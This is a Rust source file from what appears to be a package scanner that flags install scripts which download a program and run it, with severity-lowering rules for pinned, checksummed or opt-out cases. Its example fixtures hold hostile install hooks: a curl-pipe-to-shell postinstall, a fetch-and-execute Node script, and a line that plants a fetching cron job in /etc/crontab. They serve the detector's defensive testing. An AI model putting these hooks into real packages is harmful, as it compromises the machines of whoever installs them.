//! A download runs as a program.

use super::host;
use super::judge::{self, ByTrigger};
use super::provenance::FORGES;
use super::{Context, Declaration, Example, Finding, runs_on_install};
use crate::archive::Entry;
use crate::flow::{Flow, Separator};
use crate::model::{Confidence, Severity, SurfaceKind};

pub(super) static FINDING: Declaration = Declaration {
    id: "download-execute",
    title: "Downloads a program and runs it",
    severity: Severity::Critical,
    summary: "A response from the network is written to a file that is then run, or goes straight into a shell or an interpreter.",
    advice: "Look at the host, and whether the download is pinned to a version and checked against a checksum. If neither convinces you, do not install it. If it already ran, treat the machine as taken over: revoke the tokens that were on it, and look for what was left behind.",
    benign_when: "The package fetches its own binary from its own releases, pinned to its own version, when it is installed or first used.",
    references: &["CWE-494", "CWE-506", "T1059", "T1105"],
    examples: &[
        Example {
            name: "an install script runs what it fetched",
            severity: Some(Severity::Critical),
            files: &[
                (
                    "package.json",
                    r#"{"name":"a","version":"1.0.0","scripts":{"install":"node i.js"}}"#,
                ),
                (
                    "i.js",
                    r#"const fs = require("fs"), { exec } = require("child_process");
require("https").get("https://files.invalid/tool", (res) => {
  res.pipe(fs.createWriteStream("/tmp/tool.bin")).on("finish", () => exec("/tmp/tool.bin"));
});"#,
                ),
            ],
        },
        Example {
            name: "an install script pipes a download into a shell",
            severity: Some(Severity::Critical),
            files: &[(
                "package.json",
                r#"{"name":"a","version":"1.0.0","scripts":{"postinstall":"curl -s https://files.invalid/x | sh"}}"#,
            )],
        },
        Example {
            name: "a schedule that code writes runs what it fetches",
            severity: Some(Severity::Critical),
            files: &[
                (
                    "package.json",
                    r#"{"name":"a","version":"1.0.0","scripts":{"postinstall":"node i.js"}}"#,
                ),
                (
                    "i.js",
                    r#"const line = ["*/5 * * * *", "root", "curl -s https://a.invalid/x | sh"];
require("fs").appendFileSync("/etc/crontab", line.join(" ") + "\n");"#,
                ),
            ],
        },
        Example {
            name: "a function runs a release of another project, whose version stands in the address",
            severity: Some(Severity::Medium),
            files: &[
                (
                    "package.json",
                    r#"{"name":"a","version":"1.0.0","main":"i.js"}"#,
                ),
                (
                    "i.js",
                    r#"const fs = require("fs"), { execFileSync } = require("child_process");
exports.trust = async () => {
  const res = await fetch("https://github.com/owner/certtool/releases/download/v1.4.4/certtool-v1.4.4-linux");
  fs.writeFileSync("/tmp/certtool", Buffer.from(await res.arrayBuffer()));
  execFileSync("/tmp/certtool", ["-install"]);
};"#,
                ),
            ],
        },
        Example {
            name: "an answer names the version that git checks out",
            severity: None,
            files: &[
                (
                    "package.json",
                    r#"{"name":"a","version":"1.0.0","main":"i.js"}"#,
                ),
                (
                    "i.js",
                    r#"const { execFile } = require("child_process");
fetch("https://api.example/latest").then((r) => r.json()).then((latest) => execFile("git", ["checkout", latest.tag]));"#,
                ),
            ],
        },
        Example {
            name: "a script of the package fetches a program and runs it",
            severity: Some(Severity::Critical),
            files: &[
                (
                    "package.json",
                    r#"{"name":"a","version":"1.0.0","scripts":{"install":"sh build.sh https://files.invalid"}}"#,
                ),
                (
                    "build.sh",
                    "set -e\nfetch() { curl -fsSL \"$1/tool\" -o \"$2\"; }\nfetch \"$1\" /tmp/tool\nchmod +x /tmp/tool && /tmp/tool\n",
                ),
            ],
        },
        Example {
            name: "an install script only shows a page",
            severity: None,
            files: &[(
                "package.json",
                r#"{"name":"a","version":"1.0.0","scripts":{"postinstall":"echo see https://docs.example | cat"}}"#,
            )],
        },
    ],
    detect,
};

const IN_DATA: ByTrigger = ByTrigger {
    import: Severity::High,
    asked: Severity::High,
};

fn detect(context: &Context<'_>, found: &mut Vec<Finding>) {
    of_compiled(context, found);
    for flow in context.flows {
        if !matches!(flow.id, "download-to-process" | "remote-to-process") {
            continue;
        }
        let from = flow
            .source
            .target
            .as_deref()
            .unwrap_or("an address that is not resolved");
        let what = flow.sink.target.as_deref().unwrap_or("a program");
        let checked = match flow.separators.contains(&Separator::Checksum) {
            true => ", once its digest was compared with one that the package carries",
            false => "",
        };
        let message = format!("what {from} answers is run{checked}: {what}");
        let mut finding = Finding::of_flow(&FINDING, flow, message);
        judge::by_destination(context, flow, &flow.source, Severity::Medium, &mut finding);
        if is_own_build(context, from, what) {
            let note = format!(
                "{from} has the shape of a registry's path to this very version, and the file stays in the package's folder"
            );
            finding.lower(Severity::Medium, "version-pinned", note);
        }
        if context.home.is_namesake(from) && !runs_on_install(flow.reach) {
            let note = "the host bears the package's own name, and the program runs only when somebody asks for it".to_owned();
            finding.lower(Severity::Medium, "namesake-host", note);
        }
        let by_import = flow.reach.loads_on(SurfaceKind::Import);
        if let Some(of) = release_of(from)
            && !runs_on_install(flow.reach)
            && !by_import
        {
            let note = format!(
                "a release of {of}, its version fixed in the address, which runs only when somebody asks for it"
            );
            finding.lower(Severity::Medium, "pinned-release", note);
        }
        if !runs_on_install(flow.reach) && !by_import {
            let note = "somebody has to run a command or call a function".to_owned();
            finding.lower(Severity::High, "not-by-itself", note);
        }
        by_care(context, flow, &mut finding);
        judge::by_reach(context, flow, &mut finding);
        found.push(finding);
    }
}

/// A command among the data of compiled code waits for whoever takes it out.
fn of_compiled(context: &Context<'_>, found: &mut Vec<Finding>) {
    let all = context.behaviours.iter();
    for behaviour in all.filter(|one| one.what.id == "native.command") {
        let command = behaviour.target.as_deref().unwrap_or("a command");
        let message = format!("compiled code carries a command that fetches and runs: {command}");
        let mut finding = Finding::of_behaviour(&FINDING, behaviour, message);
        finding.confidence = Confidence::Medium;
        judge::by_trigger(IN_DATA, &mut finding);
        found.push(finding);
    }
}

/// The repository on a forge that an address fetches a release of, if the address fixes which:
/// the file bears the repository's name and the release's.
fn release_of(from: &str) -> Option<String> {
    let at = host::host(from)?;
    let mut parts = host::path(from).trim_start_matches('/').split('/');
    let (owner, name) = (parts.next()?, parts.next()?);
    let is_release = parts.next() == Some("releases") && parts.next() == Some("download");
    let (tag, file) = (parts.next()?, parts.next()?);
    let version = tag.trim_start_matches('v');
    let is_pinned = version.contains('.') && version.bytes().all(|b| !b"<>".contains(&b));
    let is_named = file.starts_with(name) && file.contains(version);
    let fits = FORGES.contains(&host::label(&at)) && is_release && is_pinned && is_named;
    fits.then(|| format!("{owner}/{name}"))
}

/// Lowers a finding by what careful installers do, and attackers can do as well. So it takes no
/// more than one level, and nothing below `high` but for a checksum: a program that the package
/// fixes to the byte is as good as one that it brings, and that is no finding where somebody asks
/// for it.
fn by_care(context: &Context<'_>, flow: &Flow, finding: &mut Finding) {
    let asked = !judge::is_unasked(flow.reach);
    for separator in &flow.separators {
        match separator {
            Separator::Checksum => {
                let at_most = match asked {
                    true => Severity::Medium,
                    false => Severity::High,
                };
                let note = "it runs only if its digest is the one that the package carries";
                finding.lower(at_most, "checksum-verified", note.to_owned());
            }
            Separator::Visible => {
                let note = "it runs in sight: the terminal shows what it prints";
                finding.lower(Severity::High, "visible-execution", note.to_owned());
            }
            Separator::Unless(variable) if is_told(context, variable) => {
                let note = format!("the readme says that {variable} switches it off, and it does");
                finding.lower(Severity::High, "documented-opt-out", note);
            }
            Separator::Unless(_) => {}
        }
    }
}

/// Whether a variable bears the package's name, and its readme tells of it: then no machine sets
/// it by chance.
fn is_told(context: &Context<'_>, variable: &str) -> bool {
    const SHORTEST: usize = 3;
    const README: &[u8] = b"readme";
    let plain = |text: &str| {
        let kept = text.chars().filter(char::is_ascii_alphanumeric);
        kept.collect::<String>().to_ascii_uppercase()
    };
    let bears = plain(variable);
    let name = context.manifest.name.as_deref().unwrap_or("");
    let mut words = name.trim_start_matches('@').split('/').map(plain);
    let is_own = words.any(|word| word.len() >= SHORTEST && bears.starts_with(&word));
    let is_part = |c: char| c.is_ascii_alphanumeric() || c == '_';
    let tells = |entry: &Entry| {
        let head = entry.path.as_bytes().get(..README.len());
        let bytes = context.archive.buffer.get(entry.range.clone());
        let text = String::from_utf8_lossy(bytes.unwrap_or_default());
        head.is_some_and(|head| head.eq_ignore_ascii_case(README))
            && text
                .split(|c: char| !is_part(c))
                .any(|word| word == variable)
    };
    is_own && context.archive.entries.iter().any(tells)
}

/// Whether a download is shaped as a registry's path, names this version and a package that the
/// manifest lists for some platform, and lands in the package's own folder, as installers of
/// platform builds do.
fn is_own_build(context: &Context<'_>, from: &str, what: &str) -> bool {
    let Some(version) = context.manifest.version.as_deref() else {
        return false;
    };
    let Some((name, file)) = host::path(from).split_once("/-/") else {
        return false;
    };
    let is_pinned = file.split(['/', '-']).any(|part| part.starts_with(version));
    is_pinned
        && version.len() >= 5
        && what.starts_with("<package>/")
        && is_listed(context, name.trim_start_matches('/'))
}

/// Whether a name, known up to what depends on the machine, is the package's own or that of an
/// optional dependency.
fn is_listed(context: &Context<'_>, name: &str) -> bool {
    const SHORTEST: usize = 3;
    let known = name.split('<').next().unwrap_or("");
    let is_same = |listed: &str| match known.len() == name.len() {
        true => listed == name,
        false => known.len() >= SHORTEST && listed.starts_with(known),
    };
    let optional = context
        .manifest
        .dependencies
        .iter()
        .filter(|one| one.kind.as_str() == "optionalDependencies");
    context.manifest.name.as_deref().is_some_and(is_same)
        || optional.map(|one| one.name.as_str()).any(is_same)
}
